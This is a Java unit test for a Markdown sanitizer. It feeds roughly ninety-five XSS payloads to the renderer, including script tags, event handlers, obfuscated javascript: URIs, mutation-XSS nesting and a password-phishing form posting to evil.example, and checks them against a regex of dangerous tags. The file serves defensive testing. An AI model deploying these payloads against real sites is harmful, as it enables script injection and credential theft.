package leat.notes.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import leat.kernel.test.Seed;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What attackers write into Markdown, and what is left of it. */
final class SafeHtmlTest {
    /**
     * An element or attribute that acts, or an address that runs; looked for in tags only, since as text they are harmless,
     * and in addresses at the beginning only, since further on such a word is no scheme.
     */
    private static final Pattern ACTS = Pattern.compile(
            "<[^>]*(?:\\son\\w+\\s*=|=\\s*[\"']?\\s*(?:javascript|vbscript|data):|\\ssrcdoc|\\sstyle\\s*=|\\sformaction|\\sxlink|\\ssrcset|\\saction)"
                    + "|<\\s*/?\\s*(?:script|style|iframe|object|embed|svg|math|form|button|select|textarea|link|meta|base|template"
                    + "|video|audio|source|noscript|title|xmp|plaintext|frameset|applet|marquee|isindex)\\b|<!|<\\?");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" onerror=\"alert(1)\"",
                "<img/src/onerror=alert(1)>",
                "<img src='/a' onload=alert(1)>",
                "<img src=/a srcset='javascript:alert(1)'>",
                "<IMG SRC=`javascript:alert(\"'\")`>",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><set attributeName=onmouseover to=alert(1)>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">X</math>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
                "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
                "<a style=\"position:fixed;inset:0\" href=\"https://evil.example\">x</a>",
                "[x](javascript:alert(1))",
                "[x](<javascript:alert(1)>)",
                "[x](JaVaScRiPt:alert(1))",
                "[x](javascript&#58;alert(1))",
                "[x](&#x6a;avascript:alert(1))",
                "[x](\tjavascript:alert(1))",
                "[x](java\nscript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](vbscript:alert(1))",
                "[x](file:///etc/passwd)",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x\" onerror=\"alert(1)](/a)",
                "![x](/a\"onerror=\"alert(1))",
                "![x](/a 'y\" onerror=\"alert(1)')",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x](https://a.example \"\" onmouseover=alert(1) \"\")",
                "```x\" onmouseover=\"alert(1)\ncode\n```",
                "```\n</code></pre><script>alert(1)</script>\n```",
                "`</code><script>alert(1)</script>`",
                "# <script>alert(1)</script>",
                "# x\" onmouseover=\"alert(1)",
                "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
                "<style>*{background:url(//evil.example)}</style>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=\"//evil.example/\">",
                "<form action=\"//evil.example\"><input name=password type=password><button>Sign in</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<input type=text value=x>",
                "<input type=image src=x onerror=alert(1)>",
                "<input type=checkbox onclick=alert(1) formaction=//evil.example>",
                "<select autofocus onfocus=alert(1)>",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<body onload=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<isindex action=\"javascript:alert(1)\" type=image>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?><x/>",
                "<p id=\"main\" class=\"toasts\" data-confirm=\"x\" hx-get=\"/x\" hx-trigger=\"load\">x</p>",
                "<leat-live src=\"//evil.example\"></leat-live>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<div><script>alert(1)//<div></script>",
                "\u2028<script>alert(1)</script>",
                "<script\u0000>alert(1)</script>",
                "<<script>alert(1)//<</script>",
                "<a href=\"https://x.example\"><a href=\"javascript:alert(1)\">x</a></a>",
                "[<script>alert(1)</script>](https://x.example)",
                "<b <script>alert(1)</script>0",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "~~<img src=x onerror=alert(1)>~~",
                "- [x] <img src=x onerror=alert(1)>",
            })
    void an_attack_is_inert(String attack) {
        assertThat(ACTS.matcher(Markdown.html(attack).toLowerCase(Locale.ROOT))
                        .results()
                        .map(it -> it.group()))
                .as("what is left of %s: %s", attack, Markdown.html(attack))
                .isEmpty();
    }

    @Test
    void parts_of_the_page_cannot_be_imitated() {
        assertThat(Markdown.html("<p id=\"main\" class=\"toasts\" data-confirm=\"x\" hx-get=\"/x\">x</p>"))
                .isEqualTo("<p>x</p>\n");
        assertThat(Markdown.html("<h1 id=main>x</h1>")).isEqualTo("<h1>x</h1>\n");
    }

    @Test
    void what_is_left_open_does_not_reach_beyond_the_note() {
        assertThat(Markdown.html("<table><tr><td><b>open")).endsWith("</td></tr></tbody></table>");
        assertThat(Markdown.html("</div></main></body>text")).doesNotContain("</div>", "</main>", "</body>");
    }

    @Test
    void pieces_of_attacks_in_any_order_are_inert() throws Exception {
        var pieces = List.of(
                "<script>",
                "</script>",
                "<svg>",
                "<img src=x ",
                "onerror=alert(1)",
                ">",
                "\"",
                "'",
                "`",
                "<!--",
                "-->",
                "[x](",
                "javascript:",
                "alert(1)",
                ")",
                "[[",
                "]]",
                "|",
                "\n",
                "\n\n",
                "    ",
                "<style>",
                "</style>",
                "<math>",
                "<a href=",
                "<",
                "/",
                "&#x3c;",
                "&lt;",
                "```",
                "- [x] ",
                "# ",
                "<table>",
                "<noscript>",
                "title=\"",
                "\\",
                "<![CDATA[",
                "<p");
        Seed.replayable(2_000, random -> {
            var attack = new StringBuilder();
            for (int i = random.nextInt(1, 25); i > 0; i--) {
                attack.append(pieces.get(random.nextInt(pieces.size())));
            }
            an_attack_is_inert(attack.toString());
        });
    }
}
